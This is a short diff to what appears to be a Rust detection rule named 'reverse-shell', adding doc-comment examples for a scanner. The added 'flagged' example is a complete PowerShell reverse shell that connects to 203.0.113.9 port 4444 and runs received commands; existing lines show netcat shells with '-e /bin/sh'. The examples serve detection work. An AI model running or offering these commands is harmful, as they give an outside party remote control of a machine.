@@ -24,6 +24,12 @@ declare_rule! {
     /// nc -l -p 1500 -c 'echo hello'
     /// echo 'nc -e /bin/sh host 1'
     /// ```
+    /// ```powershell,flagged
+    /// $c=New-Object Net.Sockets.TCPClient('203.0.113.9',4444);$s=$c.GetStream();[byte[]]$b=0..65535|%{0};while(($i=$s.Read($b,0,$b.Length)) -ne 0){$d=[Text.Encoding]::ASCII.GetString($b,0,$i);$r=iex $d|Out-String;$s.Write([Text.Encoding]::ASCII.GetBytes($r),0,$r.Length)}
+    /// ```
+    /// ```powershell,clean
+    /// Test-NetConnection example.com -Port 443
+    /// ```
     REVERSE_SHELL { name: "reverse-shell", subject: Subject::Effects(&[EffectKind::RemoteShell], judge) }
 }
 
